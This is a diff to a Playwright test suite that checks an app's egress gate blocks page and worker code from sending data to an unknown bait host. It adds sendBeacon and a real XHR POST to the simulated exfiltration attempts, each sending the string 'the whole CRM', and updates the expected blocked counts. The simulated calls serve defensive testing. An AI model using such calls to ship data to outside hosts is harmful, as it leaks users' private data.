@@ -209,7 +209,7 @@ test.describe('private by default', () => {
     await expect(page.getByTestId('egress-refused')).toHaveCount(0);
   });
 
-  test('code that calls fetch, Cache.add, XHR or WebSocket directly in the page or a worker is stopped by the gate and shown as blocked', async ({
+  test('code that calls fetch, Cache.add, XHR, WebSocket or sendBeacon directly in the page or a worker is stopped by the gate and shown as blocked', async ({
     page,
   }) => {
     const unknown = await bait();
@@ -247,7 +247,11 @@ test.describe('private by default', () => {
         return {
           fetch: await outcome(() => fetch(url, { method: 'POST', body: 'the whole CRM' })),
           cacheAdd: await outcome(async () => (await caches.open('sift-e2e')).add(url)),
-          xhr: await outcome(() => new XMLHttpRequest()),
+          xhr: await outcome(() => {
+            const request = new XMLHttpRequest();
+            request.open('POST', url);
+            request.send('the whole CRM');
+          }),
           webSocket: await outcome(() => new WebSocket(url.replace('http', 'ws'))),
         };
       }, target);
@@ -260,11 +264,14 @@ test.describe('private by default', () => {
     expect(await attempts(await workerNamed(page, 'tools'))).toEqual(refused);
     expect(await attempts(modelWorker)).toEqual(refused);
     expect(await attempts(page)).toEqual(refused);
+    expect(await page.evaluate((url) => navigator.sendBeacon(url, 'the whole CRM'), target)).toBe(false);
 
     expect(unknown.requests).toEqual([]);
-    await expect(page.getByTestId('egress-refused')).toContainText('12 blocked');
+    await expect(page.getByTestId('egress-refused')).toContainText('13 blocked');
     await page.getByTestId('egress-meter').getByRole('button').click();
-    await expect(page.getByTestId('egress-host').filter({ hasText: new URL(unknown.origin).host })).toContainText('12');
+    const baitRow = page.getByTestId('egress-host').filter({ hasText: new URL(unknown.origin).host });
+    await expect(baitRow.locator('td').last()).toHaveText('13');
+    await expect(baitRow.locator('td').nth(1)).toHaveText('0');
   });
 
   test('the production build runs under its Content Security Policy with no violations, and the policy blocks injected script', async ({
